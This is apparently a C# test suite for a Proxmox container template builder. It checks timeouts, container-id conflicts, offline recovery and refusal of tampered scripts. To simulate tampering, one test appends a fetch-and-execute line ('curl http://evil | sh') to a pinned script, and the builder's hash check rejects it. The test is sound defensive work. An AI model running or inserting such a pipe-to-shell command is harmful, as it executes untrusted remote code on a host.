using LxcForge.Core.Ownership;
using LxcForge.Core.Spec;
using LxcForge.Core.Templates;
using LxcForge.Proxmox.Community;
using LxcForge.Simulator.NodeCli;
using LxcForge.Simulator.NodeShell;
using LxcForge.Simulator.StandInScripts;
using LxcForge.Testing.Simulation;
using LxcForge.Testing.Utils;

namespace LxcForge.Core.Tests.Templates;

/// <summary>
/// Phase 1 on the simulator: the stand-in community scripts run unattended in the node's shell, through the
/// pinned mirror, and every fault ends cleanly with no stray container.
/// </summary>
public sealed class TemplateBuilderSpecs : IAsyncLifetime, IDisposable
{
    private readonly TempDir _dir = TempDir.Create();
    private SimulatedFleet _sim = null!;
    private SimulatorNodeShell _shell = null!;

    public async Task InitializeAsync()
    {
        _sim = await SimulatedFleet.StartAsync(withTemplates: false);
        _shell = new SimulatorNodeShell(new NodeCommandLine(_sim.Cluster, _sim.Cluster), _dir.Combine("node"));
    }

    public async Task DisposeAsync()
    {
        await _shell.DisposeAsync();
        await _sim.DisposeAsync();
    }

    public void Dispose() => _dir.Dispose();

    private TemplateBuilder Builder(IScriptOrigin? origin = null, TimeSpan? timeout = null) =>
        new(
            _sim.Host,
            _shell,
            new PinnedScriptSupply(origin ?? new StandInScriptOrigin(), _dir.Combine("cache"), _dir.Combine("scripts.lock")),
            TimeProvider.System
        )
        {
            ScriptTimeout = timeout ?? TimeSpan.FromMinutes(2),
        };

    /// <summary>The stand-in repository copied to a directory, with one file changed by <paramref name="edit"/>.</summary>
    private async Task<IScriptOrigin> StandInsWithAsync(string path, Func<string, string> edit)
    {
        var root = _dir.Combine("repo");
        var origin = new StandInScriptOrigin();
        foreach (var file in StandInScriptOrigin.Paths)
        {
            var target = Path.Combine(root, file);
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            var text = System.Text.Encoding.UTF8.GetString((await origin.ReadAsync(file))!);
            await File.WriteAllTextAsync(target, file == path ? edit(text) : text);
        }

        return new LocalDirectoryOrigin(root, "community-scripts/ProxmoxVE", "test-fork");
    }

    [Fact]
    public async Task I_can_build_a_template_from_the_community_script_and_it_records_what_built_it()
    {
        // Arrange
        var template = FleetDefaults.Seed.FindTemplate("postgresql")!;

        // Act
        var result = await Builder().BuildAsync(FleetDefaults.Seed, template, force: false);
        var again = await Builder().BuildAsync(FleetDefaults.Seed, template, force: false);

        // Assert
        result.Outcome.Should().Be(TemplateBuildOutcome.Built, result.Message + string.Join('\n', result.LogTail));
        var ct = await _sim.Host.GetContainerAsync(900);
        ct!.IsTemplate.Should().BeTrue();
        ct.Config.Hostname.Should().Be("postgresql-template");
        ct.Config.RootFs!.Storage.Should().Be("local-hdd");
        OwnershipMarker.IsOwnedTemplate(ct).Should().BeTrue();
        var record = TemplateBuildRecord.Parse(ct.Config.Description)!;
        record.StandIn.Should().BeTrue();
        record.Sha256ByPath.Should().ContainKeys("ct/postgresql.sh", "misc/build.func", "install/postgresql-install.sh");
        again.Outcome.Should().Be(TemplateBuildOutcome.Skipped);
        _sim.Cluster.ExecHistory(900)
            .Should()
            .Contain(
                e => e.StandardInput != null && e.StandardInput.StartsWith("17\n", StringComparison.Ordinal),
                "the install script's questions are answered on stdin"
            );
    }

    [Fact]
    public async Task A_script_that_moves_to_another_ctid_fails_and_its_container_is_removed()
    {
        // Arrange: a fork whose build.func ignores the requested id, as the real script does when it is taken.
        var origin = await StandInsWithAsync("misc/build.func", t =>
            t.Replace("  CT_ID=\"$requested_id\"", "  CT_ID=$((requested_id + 50))", StringComparison.Ordinal)
        );

        // Act
        var result = await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false);

        // Assert
        result.Outcome.Should().Be(TemplateBuildOutcome.Failed);
        result.Message.Should().Contain("did not create CT 901").And.Contain("951");
        (await _sim.Host.ListContainersAsync()).Should().BeEmpty();
    }

    [Fact]
    public async Task A_script_that_hangs_hits_the_timeout_and_leaves_no_container()
    {
        var origin = await StandInsWithAsync("misc/build.func", t =>
            t.Replace("description() {\n", "description() {\n  sleep 3600\n", StringComparison.Ordinal)
        );

        var result = await Builder(origin, TimeSpan.FromSeconds(5)).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false);

        result.Outcome.Should().Be(TemplateBuildOutcome.Failed);
        result.Message.Should().Contain("did not finish within");
        (await _sim.Host.ListContainersAsync()).Should().BeEmpty();
    }

    [Fact]
    public async Task A_script_that_exits_0_without_building_is_a_failure()
    {
        var origin = await StandInsWithAsync("ct/redis.sh", _ => "#!/usr/bin/env bash\necho 'nothing to do'\nexit 0\n");

        var result = await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false);

        result.Outcome.Should().Be(TemplateBuildOutcome.Failed);
        result.Message.Should().Contain("did not create CT 901");
    }

    [Fact]
    public async Task A_tampered_file_is_refused_before_anything_runs_or_the_old_template_is_touched()
    {
        // Arrange: build once (pins the files), then change a file the lock already pins.
        var origin = await StandInsWithAsync("misc/core.func", t => t);
        (await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: false))
            .Outcome.Should()
            .Be(TemplateBuildOutcome.Built);
        await File.AppendAllTextAsync(_dir.Combine("repo", "misc", "core.func"), "curl http://evil | sh\n");
        Directory.Delete(_dir.Combine("cache"), recursive: true);

        // Act
        var result = await Builder(origin).BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: true);

        // Assert
        result.Outcome.Should().Be(TemplateBuildOutcome.Failed);
        result.Step.Should().Be("scripts");
        result.Message.Should().Contain("misc/core.func: sha256 mismatch");
        (await _sim.Host.GetContainerAsync(901))!.IsTemplate.Should().BeTrue("the old template is kept");
    }

    [Fact]
    public async Task A_ctid_held_by_a_foreign_container_is_refused_and_left_untouched()
    {
        // Arrange: someone else's container at 901.
        await _sim.Host.CreateAsync(
            new Core.Hosting.CreateContainerRequest(901, "pve", (await _sim.Host.GetOsTemplatesAsync("pve", "local"))[0].VolumeId, "local-lvm")
            {
                Options = new Dictionary<string, string> { ["hostname"] = "theirs" },
            }
        );

        // Act
        var result = await Builder().BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("redis")!, force: true);

        // Assert
        result.Outcome.Should().Be(TemplateBuildOutcome.Failed);
        result.Message.Should().Contain("does not own");
        (await _sim.Host.GetContainerAsync(901))!.Config.Hostname.Should().Be("theirs");
        (await _sim.Host.ListContainersAsync()).Should().ContainSingle();
    }

    [Fact]
    public async Task I_can_build_a_template_from_an_os_template_with_provisioning_and_no_scripts()
    {
        // Arrange: no community script: the OS template plus a file and a command.
        var template = new TemplateSpec
        {
            Name = "myapp",
            Ctid = 950,
            Source = new TemplateSource
            {
                Kind = TemplateSourceKind.OsTemplate,
                Provision = new ProvisionSpec
                {
                    Files = [new FileSpec("/etc/myapp/app.conf", "listen = 8080\n")],
                    Commands = ["mkdir -p /var/lib/myapp && echo ready > /var/lib/myapp/state"],
                },
            },
        };

        // Act
        var result = await new TemplateBuilder(_sim.Host, null, null, TimeProvider.System).BuildAsync(FleetDefaults.Seed, template, force: false);

        // Assert
        result.Outcome.Should().Be(TemplateBuildOutcome.Built, result.Message + string.Join('\n', result.LogTail));
        var ct = await _sim.Host.GetContainerAsync(950);
        ct!.IsTemplate.Should().BeTrue();
        TemplateBuildRecord.Parse(ct.Config.Description)!.Source.Should().StartWith("os-template local:vztmpl/debian-12-standard");
        File.ReadAllText(Path.Combine(_sim.Cluster.SandboxRoot(950), "etc", "myapp", "app.conf")).Should().Be("listen = 8080\n");
        File.ReadAllText(Path.Combine(_sim.Cluster.SandboxRoot(950), "var", "lib", "myapp", "state")).Should().Be("ready\n");
    }

    /// <summary>A script host out of reach: every fetch fails as DNS does offline.</summary>
    private sealed class OfflineOrigin : IScriptOrigin
    {
        public int Fetches { get; private set; }
        public string Repository => "community-scripts/ProxmoxVE";
        public string Ref => "8386465a927ac72f518d1c54ce21fe3c2df03407";
        public bool IsStandIn => false;

        public Task<byte[]?> ReadAsync(string path, CancellationToken cancellationToken = default)
        {
            Fetches++;
            throw new HttpRequestException("Name or service not known (raw.githubusercontent.com:443)");
        }
    }

    [Fact]
    public async Task With_every_template_present_nothing_is_fetched_so_recovery_works_offline()
    {
        // Arrange
        var templates = FleetDefaults.Seed.Templates.Where(t => t.Name is "postgresql" or "redis").ToList();
        foreach (var t in templates)
            (await Builder().BuildAsync(FleetDefaults.Seed, t, force: false)).Outcome.Should().Be(TemplateBuildOutcome.Built);
        var offline = new OfflineOrigin();
        var builder = new TemplateBuilder(
            _sim.Host,
            _shell,
            new PinnedScriptSupply(offline, _dir.Combine("cold-cache"), _dir.Combine("offline.lock")),
            TimeProvider.System
        );

        // Act
        var results = new List<TemplateBuildResult>();
        foreach (var t in templates)
            results.Add(await builder.BuildAsync(FleetDefaults.Seed, t, force: false));
        var missing = await builder.BuildAsync(FleetDefaults.Seed, FleetDefaults.Seed.FindTemplate("docker")!, force: false);

        // Assert
        results.Should().OnlyContain(r => r.Outcome == TemplateBuildOutcome.Skipped);
        offline.Fetches.Should().Be(1, "only the template that must be built asked for its scripts");
        missing.Outcome.Should().Be(TemplateBuildOutcome.Failed);
        missing.Step.Should().Be("scripts");
        missing.Message.Should().Contain("Name or service not known");
        (await _sim.Host.GetContainerAsync(908)).Should().BeNull();
    }
}
